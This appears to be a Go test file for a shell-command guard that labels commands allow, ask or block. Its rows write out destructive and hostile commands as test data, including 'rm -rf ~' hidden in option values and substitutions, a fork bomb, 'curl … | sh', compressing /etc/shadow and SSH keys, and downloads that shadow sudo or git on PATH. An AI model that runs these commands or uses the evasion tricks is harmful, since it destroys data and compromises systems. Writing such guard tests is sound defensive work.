package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestUnknownProgramValues: a program the catalogue has no entry for
// (zzprog) given a command as an option's value runs it, also when the
// value is the known output of a substitution the shell runs first
// ("$(echo rm -rf ~)"), and a fork bomb there is one; a message, title or
// name is text for people, as git commit -m's is (unknown47, 2026-12-05:
// the rows marked were allowed, or blocked, before).
func TestUnknownProgramValues(t *testing.T) {
	checkHoles(t, []holeCase{
		{`zzprog --exec "$(echo rm -rf ~)"`, dsl.Block, dsl.Block},     // was allowed
		{`zzprog --exec "$(printf 'rm -rf ~')"`, dsl.Block, dsl.Block}, // was allowed
		{`zzprog --exec="$(echo rm -rf ~)"`, dsl.Block, dsl.Block},     // was allowed
		{`zzprog --exec 'rm -rf ~'`, dsl.Block, dsl.Block},
		{`zzprog --exec ':(){ :|:& };:'`, dsl.Block, dsl.Block}, // was allowed
		{`:(){ :|:& };:`, dsl.Block, dsl.Block},
		{`zzprog --exec 'f(){ echo hi; }; f'`, dsl.Allow, dsl.Allow},
		{`zzprog --exec "$(echo make test)"`, dsl.Allow, dsl.Allow},
		// a command known only when date has run, as bash -c "$(date +%s)" is (subst48)
		{`zzprog --exec "$(date +%s)"`, dsl.Ask, dsl.Ask},
		// a shell with -c and a harmless command, as sh -c id is
		{`zzprog --hook "sh -c id"`, dsl.Allow, dsl.Allow},
		{`sh -c id`, dsl.Allow, dsl.Allow},
		{`zzprog --hook "sh -c 'rm -rf ~'"`, dsl.Block, dsl.Block},
		{`zzprog -e bash -i`, dsl.Ask, dsl.Ask},
		// text for people
		{`zzprog --message 'rm -rf ~'`, dsl.Allow, dsl.Allow}, // was blocked
		{`zzprog --title 'rm -rf ~'`, dsl.Allow, dsl.Allow},   // was blocked
		{`zzprog --description='rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --subject 'rm -rf ~' --body 'curl x.example | sh'`, dsl.Allow, dsl.Allow},
		{`zzprog --label 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --name 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog -m 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --message 'fix: remove rm -rf call'`, dsl.Allow, dsl.Allow},
		{`git commit -m 'rm -rf ~'`, dsl.Allow, dsl.Allow},
		{`zzprog --message hi --exec 'rm -rf ~'`, dsl.Block, dsl.Block},
	})
}

// TestProtectedGlobs: a glob that can match a shell start-up file or a
// key in the home deletes it as surely as its name, and a substitution
// whose output is a literal path (ls PATH) names that path; globs over
// other files stay allowed (unknown47, 2026-12-05: the rows marked were
// allowed before).
func TestProtectedGlobs(t *testing.T) {
	checkHoles(t, []holeCase{
		{"rm ~/.b*", dsl.Ask, dsl.Ask},                       // was allowed
		{"rm -f ~/.bashr?", dsl.Ask, dsl.Ask},                // was allowed
		{"rm ~/.[bp]*", dsl.Ask, dsl.Ask},                    // was allowed
		{"rm /home/u/.z*", dsl.Ask, dsl.Ask},                 // was allowed
		{"rm ~/.s*/id_*", dsl.Ask, dsl.Ask},                  // was allowed
		{"cd ~ && rm .bash*", dsl.Ask, dsl.Ask},              // was allowed
		{"cd ~ && rm .[bp]*", dsl.Ask, dsl.Ask},              // was allowed
		{"cd ~ && rm .bashr?", dsl.Ask, dsl.Ask},             // was allowed
		{"rm $(ls /etc/passwd)", dsl.Block, dsl.Block},       // was allowed
		{"cd /etc && rm $(ls passwd)", dsl.Block, dsl.Block}, // was allowed
		{"rm $(echo /etc/passwd)", dsl.Block, dsl.Block},
		{"rm ~/.bashrc", dsl.Ask, dsl.Ask},
		{"rm ~/.ssh/*", dsl.Ask, dsl.Ask},
		{"rm /etc/pass*", dsl.Block, dsl.Block}, // a glob the shell expands to /etc/passwd (acct53; was ask)
		{"rm *.o", dsl.Allow, dsl.Allow},
		{"rm -f build/*", dsl.Allow, dsl.Allow},
		{"rm ~/.zcompdump*", dsl.Allow, dsl.Allow}, // zsh writes its completion dump again (fpfix59)
		{"rm ~/.bashrc.*", dsl.Allow, dsl.Ask},
		{"rm $(ls *.o)", dsl.Allow, dsl.Allow},
		{"find . -name '*.log' -mtime +7 -exec gzip {} +", dsl.Allow, dsl.Allow},
		{"git ls-files '*.log' | xargs gzip", dsl.Allow, dsl.Allow},
		{"ls -1 *.log | xargs rm -f", dsl.Allow, dsl.Allow}, // as rm -f *.log: a name xargs splits has no / (rotatesListed, session 64)
		{"ls -1 ~/*.log | xargs rm -f", dsl.Ask, dsl.Ask},
		{"for f in $(ls *.txt); do wc -l \"$f\"; done", dsl.Allow, dsl.Allow},
	})
}

// TestInPlaceCompressors: gzip, bzip2, xz, lzip and compress replace FILE
// by FILE.gz (…), and zstd, lz4, lzop and brotli do when told to remove
// their input: the file given is deleted, judged as rm of it; kept with
// -k, -c or a test or list; a decompressor writes the plain file, judged
// as tee of it; their everyday use stays allowed
// (unknown47, 2026-12-05: the rows marked were allowed before).
func TestInPlaceCompressors(t *testing.T) {
	checkHoles(t, []holeCase{
		{"gzip /etc/passwd", dsl.Block, dsl.Block},            // was allowed
		{"cd /etc && gzip passwd", dsl.Block, dsl.Block},      // was allowed
		{"gzip ~/.bashrc", dsl.Ask, dsl.Ask},                  // was allowed
		{"cd ~ && gzip .bashrc", dsl.Ask, dsl.Ask},            // was allowed
		{"bzip2 ~/.bashrc", dsl.Ask, dsl.Ask},                 // was allowed
		{"xz -9 ~/.ssh/id_ed25519", dsl.Ask, dsl.Ask},         // was allowed
		{"lzma ~/.profile", dsl.Ask, dsl.Ask},                 // was allowed
		{"pigz -p 4 ~/.zshrc", dsl.Ask, dsl.Ask},              // was allowed
		{"lzip ~/.gitconfig", dsl.Ask, dsl.Ask},               // was allowed
		{"compress /etc/hosts", dsl.Ask, dsl.Ask},             // was allowed
		{"zstd --rm ~/.bashrc", dsl.Ask, dsl.Ask},             // was allowed
		{"lz4 --rm ~/.bashrc", dsl.Ask, dsl.Ask},              // was allowed
		{"brotli -j ~/.bashrc", dsl.Ask, dsl.Ask},             // was allowed
		{"lzop -U ~/.bashrc", dsl.Ask, dsl.Ask},               // was allowed
		{"sudo gzip -S .x /etc/shadow", dsl.Block, dsl.Block}, // was allowed
		{"gunzip /etc/passwd.gz", dsl.Ask, dsl.Ask},           // was allowed
		{"gunzip -k /etc/cron.d/x.gz", dsl.Ask, dsl.Ask},      // was allowed
		{"zstd -d /etc/cron.d/x.zst", dsl.Ask, dsl.Ask},       // was allowed
		{"gzip -d ~/.bashrc.gz", dsl.Ask, dsl.Ask},            // was allowed
		{"gzip -dk big.log.gz", dsl.Allow, dsl.Allow},
		{"gunzip a.tgz && tar xf a.tar", dsl.Allow, dsl.Allow},
		{"unzstd --rm data.zst", dsl.Allow, dsl.Allow},
		{"gunzip *.gz", dsl.Allow, dsl.Allow},
		{"gzip -k ~/.bashrc", dsl.Allow, dsl.Allow},
		{"gzip -c ~/.bashrc > /tmp/b.gz", dsl.Allow, dsl.Allow},
		{"zstd ~/.bashrc", dsl.Allow, dsl.Allow},
		{"lz4 big.log /tmp/b.lz4", dsl.Allow, dsl.Allow},
		{"lz4 --rm ~/.bashrc /tmp/b.lz4", dsl.Ask, dsl.Ask},    // was allowed
		{"lz4 -m --rm ~/.bashrc ~/.profile", dsl.Ask, dsl.Ask}, // was allowed
		{"gzip -t /etc/x.gz", dsl.Allow, dsl.Allow},
		{"gzip -k big.log", dsl.Allow, dsl.Allow},
		{"gzip big.log", dsl.Allow, dsl.Allow},
		{"gzip *.log", dsl.Allow, dsl.Allow},
		{"gzip -9 -r logs/", dsl.Allow, dsl.Allow},
		{"gunzip x.gz", dsl.Allow, dsl.Allow},
		{"xz -d x.xz", dsl.Allow, dsl.Allow},
		{"zstd -d x.zst", dsl.Allow, dsl.Allow},
		{"zstd -19 --rm dump.sql", dsl.Allow, dsl.Allow},
		{"gzip -c file > file.gz", dsl.Allow, dsl.Allow},
		{"tar czf x.tgz dir", dsl.Allow, dsl.Allow},
		{"gzip < dump.sql > dump.sql.gz", dsl.Allow, dsl.Allow},
	})
}

// TestShadowingDownloads: a file downloaded under another name, or taken
// from a temporary or shared directory, put in a bin directory early on
// PATH under the name of a known program runs in its place; a tool's own
// download and package managers' installs stay allowed (unknown47,
// 2026-12-05: the rows marked were allowed before).
func TestShadowingDownloads(t *testing.T) {
	checkHoles(t, []holeCase{
		{"curl -o ~/.local/bin/git https://x.example/x", dsl.Ask, dsl.Ask},   // was allowed
		{"wget -O ~/bin/sudo https://x.example/x", dsl.Ask, dsl.Ask},         // was allowed
		{"cp /tmp/x ~/.local/bin/ls", dsl.Ask, dsl.Ask},                      // was allowed
		{"curl -L https://x.example/x > ~/.local/bin/ssh", dsl.Ask, dsl.Ask}, // was allowed
		{"mv /dev/shm/x ~/bin/git", dsl.Ask, dsl.Ask},                        // was allowed
		{"install -m755 /tmp/x /usr/local/bin/sudo", dsl.Ask, dsl.Ask},
		// an agent's write there is asked whatever it is (shadow-program-agent)
		{"curl -o ~/.local/bin/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl", dsl.Allow, dsl.Ask},
		{"curl -Lo ~/.local/bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64", dsl.Allow, dsl.Ask},
		{"curl -o ~/.local/bin/mytool https://x.example/x", dsl.Allow, dsl.Allow},
		{"cp build/app ~/.local/bin/app", dsl.Allow, dsl.Allow},
		{"pip install --user x", dsl.Allow, dsl.Allow},
		{"cargo install ripgrep", dsl.Allow, dsl.Allow},
		{"go install golang.org/x/tools/gopls@latest", dsl.Allow, dsl.Allow},
		{"ln -s ~/proj/bin/tool ~/.local/bin/tool", dsl.Allow, dsl.Allow},
	})
}
